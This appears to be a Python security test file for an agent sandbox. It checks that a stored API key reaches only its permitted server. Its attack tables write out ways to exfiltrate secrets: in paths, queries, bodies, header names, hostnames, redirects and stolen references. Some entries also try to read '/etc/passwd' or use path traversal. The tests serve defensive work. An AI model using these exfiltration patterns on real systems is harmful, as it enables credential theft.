"""Secrets that agents use and never see: they go where they are for, and nowhere else."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from unittest.mock import patch

from tests.hostile.catalogue.acts import PYTHON, python
from tests.hostile.catalogue.entry import Act, Attack, Control, Scene
from tests.hostile.catalogue.seen import kept
from tests.hostile.catalogue.web import Outside, servers
from wasm_engine.control.secrets import set_secret
from wasm_engine.host import places

VALUE = "sk-live-Very.Secret-123456"
USER, THIEF = "user", "thief"


@contextmanager
def _kept(folder: Path) -> Iterator[Outside]:
    """The two servers, and a secret that the operator keeps for one of them."""
    with (
        patch.object(places, "config_folder", lambda: folder / "config"),
        servers(folder) as outside,
    ):
        set_secret("api-key", VALUE)
        set_secret("other-key", VALUE[::-1])
        yield outside


def _wrong(outside: Outside) -> list[str]:
    """What got to a server that should not have."""
    found = outside.wrong()
    for server, allowed in zip(outside.servers, (True, False), strict=True):
        for it in server.seen:
            said = f"{it.path} {it.headers} {it.body!r}"
            if VALUE[::-1] in said or (VALUE in said and (not allowed or VALUE in it.path)):
                found.append(f"a secret came to {server.origin}{it.path[:60]}")
    return found


def _in_run(data: bytes) -> list[str]:
    return ["a secret is in the run"] if VALUE.encode() in data else []


def _with(code: str, kind: str = USER) -> Act:
    return python(kind, f"key = secret('api-key')\n{code}")


_SENT = "http.get('<granted>/x', headers={'authorization': f'Bearer {key}'}).status"
_CONTROL = Control("where it is for, in a header", _with(f"got = {_SENT}"), "200")
_REFUSED = {
    "other-origin": ("sends it to another server that it may ask",
                     "http.get('<inside>/x', headers={'authorization': key})"),
    "url": ("sends it in a path", "http.get(f'<granted>/x/{key}')"),
    "query": ("sends it in a query", "http.get('<granted>/x', params={'k': key})"),
    "body": ("sends it in a body", "http.post('<granted>/same', key)"),
    "json": ("sends it in JSON", "http.post('<granted>/same', {'k': key})"),
    "header-name": ("sends it as the name of a header", "http.get('<granted>/x', headers={key: 'x'})"),
    "host": ("sends it to a name that holds it", "http.get(f'http://{key}.example:<other>/x')"),
    "user": ("sends it as a user", "http.get('<granted>/x'.replace('//', f'//{key}@'))"),
    "method": ("sends it as a method", "http.fetch(key, '<granted>/x')"),
    "look-alike": ("guesses a reference",
                   "http.get('<granted>/x', headers={'a': key[:-1] + ('a' if key[-1] != 'a' else 'b')})"),
}  # fmt: skip
_FORGOTTEN = [
    Attack(f"send-{name}", f"{tries}", _with(f"got = {code}.status"),
           "not-granted | invalid-request", _CONTROL)
    for name, (tries, code) in _REFUSED.items()
]  # fmt: skip


def _named(label: str, name: str) -> Attack:
    return Attack(
        f"name-{label}", f"asks for the secret {ascii(name)[1:-1]}",
        python(USER, f"secret({name!r})"), "not-granted | invalid-name",
        Control("its own", python(USER, "len(secret('api-key')) > 10"), "True"),
    )  # fmt: skip


_NAMES = {
    "other": "other-key", "upper-case": "API-KEY", "space": "api-key ", "nul": "api-key\0",
    "path": "../secrets/api-key", "file": "/etc/passwd", "variable": "env:HOME", "empty": "",
    "wildcard": "*",
}  # fmt: skip
# What a mirror says again of what it was told: in which form the agent gets it.
_ECHOES = {
    "plain": ("f'Bearer {key}'", "['authorization']", "Bearer [secret]"),
    "basic": ("'Basic ' + base64.b64encode(f'user:{key}'.encode()).decode()", "['authorization']", None),
}  # fmt: skip
_MIRROR = "http.get('<granted>/echo', headers={'authorization': %s}).json()['headers']%s"


def _echoed(code: str) -> Act:
    return _with(f"import base64\nsaid = {code}\nraw = base64.b64decode(said[6:]).decode('latin-1') "
                 f"if said.startswith('Basic ') else said\n"
                 f"got = 'seen' if '{VALUE[3:12]}' in said + raw else 'hidden'")  # fmt: skip


_PLAIN = Control(
    "what is no secret",
    python(USER, "http.get('<granted>/echo', headers={'authorization': 'mine'}).json()['headers']['authorization']"),
    "mine",
)  # fmt: skip
_BACK = [
    *(
        Attack(f"echo-{name}", f"has it said again by a mirror ({name})",
               _echoed(_MIRROR % (how, at)), "hidden", _PLAIN)
        for name, (how, at, _) in _ECHOES.items()
    ),
    Attack("echo-header", "has it said again in all headers",
           _echoed("http.get('<granted>/echo', headers={'x-one': key, 'x-two': f'a{key}b'}).text"),
           "hidden", _PLAIN),
]  # fmt: skip
_REST: list[Attack] = [
    Attack(
        "reference", "looks at what stands for it", _with(f"v = '{VALUE[::-1]}'[::-1]\ngot = v in key or key in v"),
        "False", _CONTROL,
    ),
    Attack("without-grant", "asks for it without a grant", python(THIEF, "secret('api-key')"),
           "not-granted", _CONTROL),
    Attack(
        "stolen-reference", "uses a reference that another one told it",
        Act(THIEF, ((("teller", "do", "send('<self>', 'do', f\"http.get('<granted>/x', "
                     "headers={{'a': '{secret('api-key')}'}}).status\")"),),), kept),
        "not-granted", _CONTROL,
    ),
    Attack(
        "redirect", "has it led on to another server",
        _with("got = http.get('<granted>/redirect/307', params={'to': '<inside>/evil'}, headers={'a': key}).status"),
        "307", Control("without it", python(USER, "http.get('<granted>/redirect/307', params={'to': '<inside>/may'}).status"), "200"),
    ),
    Attack(
        "state", "keeps it, and reads what it kept",
        _with(f"state['k'] = key\ngot = '{VALUE[:9]}' in state['k']"), "False", _CONTROL,
    ),
    Attack(
        "log", "logs it", _with(f"log.info(key)\ngot = '{VALUE[:9]}' in key"), "False", _CONTROL,
    ),
]  # fmt: skip
_AGENT: dict[str, Any] = {**PYTHON, "http": {"timeout": "5 s", "redirects": 3}}
_BOTH = ["<granted>", "<inside>"]
SCENES = [
    Scene(
        "secrets",
        [*_FORGOTTEN, *(_named(*row) for row in _NAMES.items()), *_BACK, *_REST],
        {
            USER: {**_AGENT, "grants": [*_BOTH, "secret:api-key", "http://*.example:<other>"]},
            "teller": {**_AGENT, "count": 1, "grants": ["secret:api-key", "<granted>"]},
            THIEF: {**_AGENT, "grants": _BOTH},
            "keeper": {**_AGENT, "count": 1, "grants": ["secret:other-key", "<granted>"]},
        },
        {
            "secrets": {
                "api-key": {"for": ["<granted>"], "in": ["header"]},
                "other-key": {"for": ["<granted>"]},
            }
        },
        around=_kept,
        wrong=_wrong,
        holds=_in_run,
        most=1 << 30,
    )
]
